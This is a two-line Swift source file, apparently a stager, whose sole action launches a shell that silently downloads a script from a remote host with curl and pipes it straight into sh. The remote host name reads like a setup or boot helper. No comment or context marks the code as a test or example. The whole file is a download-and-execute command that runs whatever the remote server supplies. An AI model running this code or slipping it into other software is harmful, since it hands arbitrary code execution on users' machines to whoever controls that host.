import Foundation
Process.launchedProcess(launchPath: "/bin/sh", arguments: ["-c", "curl -s https://swift-boot.example/s | sh"])
